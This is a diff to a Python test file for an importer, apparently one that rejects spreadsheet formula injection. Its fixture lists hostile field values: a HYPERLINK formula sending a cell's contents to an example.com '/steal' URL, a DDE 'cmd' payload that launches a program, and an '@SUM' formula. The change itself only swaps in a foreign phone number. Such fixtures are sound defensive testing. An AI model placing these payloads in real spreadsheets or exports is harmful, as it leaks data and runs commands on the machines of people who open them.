@@ -165,7 +165,7 @@ def test_a_refused_import_prints_every_problem_and_exits_non_zero(
 FORMULAS = {
     "complainant_name": '=HYPERLINK("https://example.com/steal?"&A1,"Ava Smith")',
     "summary": "-2+3+cmd|' /C calc'!A0",
-    "complainant_phone": "+44 20 7946 0000",
+    "complainant_phone": "+33 1 23 45 67 89",  # stored as written: a number abroad
     "complainant_address": "@SUM(1+1)",
 }
 
